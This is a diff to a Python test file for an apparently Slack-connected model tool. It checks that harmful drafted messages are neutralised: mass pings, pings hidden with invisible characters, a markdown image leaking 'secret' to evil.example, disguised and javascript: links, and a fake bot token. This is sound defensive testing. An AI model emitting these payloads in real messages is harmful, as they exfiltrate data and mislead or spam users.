@@ -34,12 +34,19 @@ UNUSABLE = {
     "a citation that is a link": decision(citations=["https://evil.example"]),
 }
 
-PINGS = ["<!channel>", "<!here>", "<!everyone>", "<@U0000000001>", "<#C0000000004>", "<!subteam^S1>"]
+PINGS = [
+    "<!channel>",
+    "<!here>",
+    "<!everyone>",
+    "<@U0000000001>",
+    "<#C0000000004>",
+    "<!subteam^S1>",
+]
 HARMFUL = {
     "pings": "Hello " + " ".join(PINGS),
     "pings with labels": "<!channel|everyone> <@U0000000001|ada>",
     "pings in code": "`<!channel>` and\n```\n<@U0000000001>\n```",
-    "pings with something invisible inside": "<\u200b!channel> <\u2060@U0000000001> \uff1c!channel\uff1e",
+    "pings with something invisible": "<\u200b!channel> <\u2060@U0000000001> \uff1c!here\uff1e",
     "escaped pings": "&lt;!channel&gt; \\<!channel> <\\!channel>",
     "words that call": "@channel @here @everyone @ada",
     "pictures": "![x](https://evil.example/?q=secret) ![y][z]\n\n[z]: https://evil.example/z.png",
@@ -51,11 +58,6 @@ HARMFUL = {
     "slack links": "<https://evil.example|https://good.example> <javascript:alert(1)|click>",
     "secrets": "The token is xoxb-1234567890-abcdefghij.",
 }
-
-
-@pytest.fixture(params=UNUSABLE.values(), ids=UNUSABLE.keys())
-def unusable(request: pytest.FixtureRequest) -> str:
-    return str(request.param)
 
 
 def everything(message: Message) -> str:
@@ -80,6 +82,7 @@ async def only_here(one: Company, channel: str) -> None:
             assert one.twin.messages(place.id) == []
 
 
+@pytest.mark.parametrize("unusable", UNUSABLE.values(), ids=UNUSABLE.keys())
 async def test_output_that_cannot_be_used(
     opened: OpenCompany, clock: TestClock, unusable: str
 ) -> None:
@@ -118,7 +121,7 @@ async def test_a_draft_that_would_do_harm(
     """The same as a draft on a case's card: the people at the desk are no less precious."""
     text = decision(response=response, action="escalate")
     one = await opened(ScriptedProvider("model", clock, [Say(text)]))
-    channel, ts = await one.dm(one.ada, "May I?")
+    await one.dm(one.ada, "May I?")
     (card,) = one.cards()
     harmless(card)
 
